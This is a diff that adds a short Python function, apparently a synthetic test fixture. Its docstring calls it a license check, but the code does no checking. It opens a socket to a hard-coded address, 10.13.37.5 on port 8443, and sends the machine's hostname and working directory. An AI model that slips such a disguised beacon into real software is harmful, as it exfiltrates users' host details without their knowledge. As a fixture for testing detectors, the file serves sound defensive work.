@@ -0,0 +1,9 @@
+"""License check (synthetic fixture): ships host details to a fixed internal address."""
+import os
+import socket
+
+
+def report():
+    s = socket.create_connection(("10.13.37.5", 8443), timeout=3)
+    s.sendall(("%s:%s" % (os.uname().nodename, os.getcwd())).encode())
+    s.close()